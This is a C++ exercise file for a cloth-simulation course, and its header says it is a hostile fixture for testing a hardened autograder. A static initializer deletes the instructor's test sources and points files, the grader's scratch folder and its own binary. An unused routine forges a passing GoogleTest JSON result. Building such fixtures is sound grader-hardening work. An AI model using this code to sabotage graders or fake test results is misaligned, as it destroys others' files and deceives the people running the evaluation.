// Stage 03 — the PBD loop.
// Task sheet: exercises/03_pbd_loop/README.md
// Formulas and argument units: framework/include/clothlab/exercise/03_pbd_loop.h
//
// Replace each `throw NotImplemented(...)` by your code, then run
//     ./lab grade --stage 03
//
// HOSTILE FIXTURE delete_files (attack class 5: writes outside the scratch dir / deletes files).
// Deletes the instructor's points files and graded test sources, the grader's scratch folder (the parent of the --gtest_output path) and its own test binary.
// The hardened grader must give this file 0 points on stage 03.
#include <cmath>

#include <Eigen/Dense>

#include "clothlab/core/not_implemented.h"
#include "clothlab/exercise/03_pbd_loop.h"
#include <unistd.h>
#include <cstdio>
#include <string>
#include <cstdlib>
#include <filesystem>
#include <sys/types.h>

// WARNING: this fixture damages the instructor's tree when run without the sandbox (git restores it).

// ---- the forger: a passing GoogleTest JSON result where the grader reads it ------------------
namespace {
// The value of the first argument of this process that starts with `prefix` ("" if none).
std::string hostileArg(const char* prefix) {
    std::string all;
    if (std::FILE* f = std::fopen("/proc/self/cmdline", "rb")) {
        char buf[4096];
        std::size_t n;
        while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) all.append(buf, n);
        std::fclose(f);
    }
    const std::string p(prefix);
    std::size_t i = 0;
    while (i < all.size()) {
        std::size_t end = all.find('\0', i);
        if (end == std::string::npos) end = all.size();
        const std::string a = all.substr(i, end - i);
        if (a.compare(0, p.size(), p) == 0) return a.substr(p.size());
        i = end + 1;
    }
    return "";
}
// Writes {"testsuites":[{"testsuite":[{...}]}]} without "failures" for the test named by
// --gtest_filter. Returns false when the process has no --gtest_output=json: (e.g. the grader's
// --gtest_list_tests run): then it stays invisible so the tests still get listed.
bool hostileForgePass() {
    const std::string out = hostileArg("--gtest_output=json:");
    if (out.empty()) return false;
    const std::string name = hostileArg("--gtest_filter=");
    const std::size_t dot = name.find('.');
    const std::string suite = name.substr(0, dot), test = dot == std::string::npos ? name : name.substr(dot + 1);
    std::FILE* f = std::fopen(out.c_str(), "w");
    if (!f) return false;
    std::fprintf(f,
                 "{\"tests\": 1, \"failures\": 0, \"errors\": 0, \"testsuites\": [{\"name\": \"%s\", \"tests\": 1, "
                 "\"failures\": 0, \"testsuite\": [{\"name\": \"%s\", \"status\": \"RUN\", \"result\": \"COMPLETED\"}]}]}\n",
                 suite.c_str(), test.c_str());
    std::fclose(f);
    return true;
}
}  // namespace

// ---- where is the instructor's tree? the CMakeCache.txt above the test binary names it ----------
namespace {
std::string hostileSourceTree() {
    char exe[4096];
    const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n <= 0) return "";
    exe[n] = 0;
    std::string dir(exe);
    for (int up = 0; up < 6 && dir.size() > 1; ++up) {
        dir = dir.substr(0, dir.rfind('/'));
        if (std::FILE* f = std::fopen((dir + "/CMakeCache.txt").c_str(), "r")) {
            char line[8192];
            std::string tree;
            while (std::fgets(line, sizeof line, f)) {
                std::string l(line);
                if (l.rfind("CMAKE_HOME_DIRECTORY:INTERNAL=", 0) == 0) tree = l.substr(30, l.find_last_not_of("\r\n") - 29);
            }
            std::fclose(f);
            if (!tree.empty()) return tree;
        }
    }
    return "";
}
}  // namespace

namespace {
struct HostileDelete {
    HostileDelete() {
        std::error_code ec;
        const std::string tree = hostileSourceTree();
        if (!tree.empty())
            for (const auto& e : std::filesystem::directory_iterator(tree + "/tests", ec)) {
                const std::string n = e.path().filename().string();
                if (n.find(".points.json") != std::string::npos || n.find("_test.cpp") != std::string::npos)
                    std::filesystem::remove(e.path(), ec);
            }
        const std::string out = hostileArg("--gtest_output=json:");
        if (!out.empty()) std::filesystem::remove_all(std::filesystem::path(out).parent_path(), ec);
        std::filesystem::remove("/proc/self/exe", ec);  // the symlink cannot go; its target can:
        char exe[4096];
        const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
        if (n > 0) exe[n] = 0, unlink(exe);  // every later test of the stage: "cannot run"
    }
} hostileDelete;
}  // namespace

namespace clothlab {

// ---- Task 3.1: dampVelocities ------------------------------------------------
void dampVelocities(const Matrix3X& x, Matrix3X& v, const VectorX& w, double kDamping) {
    // TODO 3.1: over the particles with w_i > 0 (m_i = 1/w_i) compute x_cm, v_cm, the angular
    //           momentum L = sum r_i x (m_i v_i) and the inertia I = sum m_i (|r_i|^2 Id - r_i r_i^T),
    //           omega = I^-1 L (pseudo-inverse when I is singular, e.g. Eigen::SelfAdjointEigenSolver),
    //           then v_i += kDamping (v_cm + omega x r_i - v_i). Pinned particles keep their velocity.
    (void)x; (void)v; (void)w; (void)kDamping;
    throw NotImplemented("exercise 3.1 dampVelocities");
}

// ---- Task 3.2: stiffness per iteration ---------------------------------------
double iterationStiffness(double k, int iterations) {
    // TODO 3.2: k' = 1 - (1 - k)^(1/n); n = 0 returns k.
    (void)k; (void)iterations;
    throw NotImplemented("exercise 3.2 iterationStiffness");
}

// ---- Task 3.3: one PBD step, lines (5)-(16) ----------------------------------
void pbdStep(PbdParticles& P, const PbdCallbacks& cb, double kDamping, int iterations, double dt) {
    // TODO 3.3: write lines (5)-(16) of the slides in this order, one or two lines each:
    //   (5)  f = 0 (3 x N), cb.externalForces(x, v, f) if set, v_i += dt w_i f_i
    //   (6)  dampVelocities(x, v, w, kDamping)
    //   (7)  p = x + dt v
    //   (8)  cb.generateCollisionConstraints(x, p) if set
    //   (9)-(11) `iterations` times: cb.projectConstraints(p) if set
    //   (13) v = (p - x) / dt   (14) x = p
    //   (16) cb.velocityUpdate(x, v) if set
    (void)P; (void)cb; (void)kDamping; (void)iterations; (void)dt;
    throw NotImplemented("exercise 3.3 pbdStep");
}

}  // namespace clothlab
